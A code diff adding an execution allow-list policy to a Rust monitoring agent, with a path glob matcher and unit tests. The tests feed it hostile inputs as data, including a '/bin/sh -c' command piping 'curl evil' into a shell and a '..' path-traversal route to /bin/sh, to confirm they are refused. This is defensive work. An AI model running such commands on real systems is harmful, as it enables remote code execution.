@@ -118,3 +118,119 @@ impl Probe for ExecProbe {
         Box::pin(self.probe())
     }
 }
+
+/// Which programs this agent runs for exec checks. The collector says *what* to probe, never
+/// *what to execute*: a plugin runs only when its path matches the agent's own `exec_allow`,
+/// or it is exactly (program and arguments) one of the exec checks in the agent's own
+/// `agent.toml`. Everything else is refused, and the refusal is the check's result.
+#[derive(Clone, Debug, Default)]
+pub struct ExecPolicy {
+    /// Any exec check runs (`vakt-agent probe`: a person typed the command).
+    trust_all: bool,
+    /// Path patterns; `*` stands for any characters within one path segment.
+    allow: Vec<String>,
+    /// (program, args) of the agent's own exec checks.
+    local: Vec<(String, Vec<String>)>,
+}
+
+impl ExecPolicy {
+    pub fn new(allow: Vec<String>, local: Vec<(String, Vec<String>)>) -> Self {
+        ExecPolicy { trust_all: false, allow, local }
+    }
+
+    pub fn trust_all() -> Self {
+        ExecPolicy { trust_all: true, ..Self::default() }
+    }
+
+    /// `None` when `spec` may run; otherwise why not.
+    pub fn refusal(&self, spec: &CheckSpec) -> Option<String> {
+        let program = spec.target.as_str();
+        if self.trust_all || self.local.iter().any(|(p, a)| p == program && *a == spec.options.args) {
+            return None;
+        }
+        let plain = program.starts_with('/') && !program.split('/').any(|seg| seg == ".." || seg == ".");
+        if plain && self.allow.iter().any(|pattern| glob_match(pattern, program)) {
+            return None;
+        }
+        Some(format!(
+            "refused to run {program:?}: not in this agent's exec_allow (agent.toml); the collector cannot make an agent run a program its own configuration does not allow"
+        ))
+    }
+}
+
+/// `*` matches any run of characters except '/'; everything else matches itself.
+pub fn glob_match(pattern: &str, path: &str) -> bool {
+    let (p, s) = (pattern.as_bytes(), path.as_bytes());
+    let (mut pi, mut si) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+    while si < s.len() {
+        if pi < p.len() && p[pi] == b'*' {
+            star = Some((pi, si));
+            pi += 1;
+        } else if pi < p.len() && p[pi] == s[si] {
+            pi += 1;
+            si += 1;
+        } else if let Some((sp, ss)) = star.filter(|&(_, ss)| s[ss] != b'/') {
+            // Let the last star take one more character (never a '/').
+            star = Some((sp, ss + 1));
+            pi = sp + 1;
+            si = ss + 1;
+        } else {
+            return false;
+        }
+    }
+    p[pi..].iter().all(|&c| c == b'*')
+}
+
+/// A check this agent will not run: every interval, its result is the refusal.
+pub struct RefusedProbe {
+    pub reason: String,
+}
+
+impl Probe for RefusedProbe {
+    fn run(&self) -> BoxFuture<'_, ProbeResult> {
+        Box::pin(async move { ProbeResult::failed(None, self.reason.clone()) })
+    }
+}
+
+#[cfg(test)]
+mod policy_tests {
+    use super::*;
+    use vakt_config::CheckKind;
+
+    fn spec(program: &str, args: &[&str]) -> CheckSpec {
+        let mut s = CheckSpec::new("c", CheckKind::Exec, program, 1000);
+        s.options.args = args.iter().map(|a| a.to_string()).collect();
+        s
+    }
+
+    #[test]
+    fn globs_stay_within_one_path_segment() {
+        assert!(glob_match("/usr/lib/nagios/plugins/*", "/usr/lib/nagios/plugins/check_tcp"));
+        assert!(glob_match("/usr/lib/nagios/plugins/check_*", "/usr/lib/nagios/plugins/check_disk"));
+        assert!(glob_match("/opt/x/check", "/opt/x/check"));
+        assert!(!glob_match("/usr/lib/nagios/plugins/*", "/usr/lib/nagios/plugins/sub/check_tcp"));
+        assert!(!glob_match("/usr/lib/nagios/plugins/*", "/bin/sh"));
+        assert!(!glob_match("/opt/x/check", "/opt/x/check2"));
+    }
+
+    #[test]
+    fn nothing_runs_by_default_and_the_allow_list_and_own_checks_open_the_door() {
+        let none = ExecPolicy::default();
+        assert!(none.refusal(&spec("/usr/lib/nagios/plugins/check_tcp", &[])).is_some(), "empty by default");
+        let p = ExecPolicy::new(
+            vec!["/usr/lib/nagios/plugins/*".into()],
+            vec![("/usr/local/bin/backup-check".into(), vec!["--quick".into()])],
+        );
+        assert_eq!(p.refusal(&spec("/usr/lib/nagios/plugins/check_tcp", &["-H", "x"])), None);
+        let sh = p.refusal(&spec("/bin/sh", &["-c", "curl evil | sh"])).unwrap();
+        assert!(sh.contains("refused to run \"/bin/sh\""), "{sh}");
+        assert!(p.refusal(&spec("/usr/lib/nagios/plugins/../../../../bin/sh", &[])).is_some(), "no way out by ..");
+        assert_eq!(p.refusal(&spec("/usr/local/bin/backup-check", &["--quick"])), None, "the agent's own check");
+        assert!(
+            p.refusal(&spec("/usr/local/bin/backup-check", &["--delete-all"])).is_some(),
+            "the same program with other arguments is not the agent's own check"
+        );
+        assert_eq!(ExecPolicy::trust_all().refusal(&spec("/bin/true", &[])), None);
+    }
+}
